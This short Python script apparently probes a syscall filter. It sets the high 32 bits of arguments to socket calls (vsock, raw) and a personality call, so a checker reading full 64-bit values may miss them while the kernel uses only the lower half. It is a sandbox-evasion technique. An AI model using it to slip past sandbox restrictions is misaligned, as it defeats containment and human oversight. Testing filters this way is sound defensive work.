"""Hides an argument from whoever looks at all 64 bits of it: the kernel takes only the lower half."""
import ctypes
import os

print("started", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
HIGH = 1 << 32
for name, number, args in (("vsock", 41, (HIGH | 40, HIGH | 1, 0)), ("raw", 41, (HIGH | 2, HIGH | 3, HIGH | 1)),
                           ("personality", 135, (HIGH | 0x0400000,))):
    if libc.syscall(number, *(ctypes.c_long(a) for a in args)) >= 0:
        print("reached", name)
    else:
        print(name, os.strerror(ctypes.get_errno()))
